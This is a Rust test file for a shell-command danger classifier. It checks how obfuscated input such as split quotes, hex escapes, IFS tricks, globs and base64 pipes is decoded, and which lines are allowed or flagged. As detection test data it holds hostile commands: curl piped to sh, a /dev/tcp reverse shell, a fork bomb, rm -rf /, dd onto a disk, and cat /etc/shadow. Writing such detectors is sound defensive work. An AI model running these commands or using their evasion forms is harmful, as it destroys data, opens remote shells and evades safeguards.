// SPDX-License-Identifier: Apache-2.0 OR MIT

use super::*;

fn level(line: &str) -> Level {
    verdict(line, Origin::Typed).level
}

fn verdict(line: &str, origin: Origin) -> Verdict {
    Classifier::new(&Settings::default()).unwrap().classify(line, origin, &Context::default())
}

/// The names and values of a line's commands.
fn words(line: &str) -> Vec<Vec<String>> {
    let reading = reading::read(line, false);
    reading
        .commands
        .iter()
        .map(|command| command.words.iter().map(|word| word.value.clone()).collect())
        .collect()
}

#[test]
fn the_table_is_understood() {
    let atoms = Atoms::parse(include_str!("atoms.table")).unwrap();
    assert!(atoms.len() >= 600, "{}", atoms.len());
    let mut names: Vec<String> = atoms.list().map(|(name, _, _)| name).collect();
    let all = names.len();
    names.sort();
    names.dedup();
    assert_eq!(names.len(), all, "two atoms have one name");
    assert!(atoms.list().all(|(_, _, reference)| !reference.is_empty()));
}

#[test]
fn words_are_what_the_shell_would_see() {
    let cases: &[(&str, &[&[&str]])] = &[
        ("c''url -s x", &[&["curl", "-s", "x"]]),
        (r"c\url x", &[&["curl", "x"]]),
        (r"$'\x63\x75rl' x", &[&["curl", "x"]]),
        ("cat${IFS}/etc/shadow", &[&["cat", "/etc/shadow"]]),
        ("a=cu; b=rl; $a$b x", &[&[], &[], &["curl", "x"]]),
        ("{curl,-s,x}", &[&["curl", "-s", "x"]]),
        ("a|b && c; d", &[&["a"], &["b"], &["c"], &["d"]]),
        (
            "sudo -u root env A=1 rm -rf /x",
            &[
                &["sudo", "-u", "root", "env", "A=1", "rm", "-rf", "/x"],
                &["env", "A=1", "rm", "-rf", "/x"],
                &["rm", "-rf", "/x"],
            ],
        ),
        ("for i in a; do echo $i; done", &[&["echo", "a"]]),
        ("if a; then b; else c; fi", &[&["a"], &["b"], &["c"]]),
        ("case $x in a) b;; *) c;; esac", &[&["b"], &["c"]]),
        ("f() { a; }; f", &[&["a"], &["f"]]),
        ("coproc x { a; b; }; c", &[&["a"], &["b"], &["c"]]),
        ("coproc x ( a )", &[&["a"]]),
        ("coproc a b", &[&["a", "b"]]),
        ("echo \"$(a b)\"", &[&["a", "b"], &["echo", "\u{FFFC}"]]),
        (
            "echo cm0gLXJmIC8= | base64 -d | sh",
            &[&["echo", "cm0gLXJmIC8="], &["base64", "-d"], &["sh"], &["rm", "-rf", "/"]],
        ),
        ("sh <<'E'\nrm x\nE\nls", &[&["sh"], &["rm", "x"], &["ls"]]),
        (
            "find . -name x -exec rm {} \\;",
            &[&["find", ".", "-name", "x", "-exec", "rm", "{}", ";"], &["rm", "{}"]],
        ),
        ("echo a # b", &[&["echo", "a"]]),
        ("wh$@oami", &[&["whoami"]]),
        ("${x:-rm} -rf y", &[&["rm", "-rf", "y"]]),
        ("$(echo rm) y", &[&["echo", "rm"], &["rm", "y"]]),
        ("/b?n/c?t x", &[&["/bin/cat", "x"]]),
    ];
    for (line, expected) in cases {
        assert_eq!(&words(line), expected, "{line}");
    }
}

#[test]
fn known_lines_get_their_level() {
    for line in [
        "ls -la",
        "echo 'rm -rf /'",
        "man rm",
        "grep -r 'curl | sh' docs",
        "git commit -m 'rm -rf / is bad'",
        "curl -fsSL https://example.com/a.json | jq .",
        "rm -rf build target",
        "sudo apt install vim",
    ] {
        let verdict = verdict(line, Origin::Typed);
        assert_eq!(verdict.level, Level::Allow, "{line}: {:?}", verdict.reasons);
    }
    for line in [
        "curl https://x.example/a | sh",
        "c''url x.example | b\\ash",
        "rm -rf /",
        "rm -rf ~",
        "echo cm0gLXJmIC8= | base64 -d | sh",
        ":(){ :|:& };:",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "sudo rm -rf --no-preserve-root /",
        "bash -c \"$(curl -fsSL http://x.example)\"",
        "dd if=/dev/zero of=/dev/sda",
    ] {
        assert!(level(line) >= Level::Confirm, "{line}");
    }
}
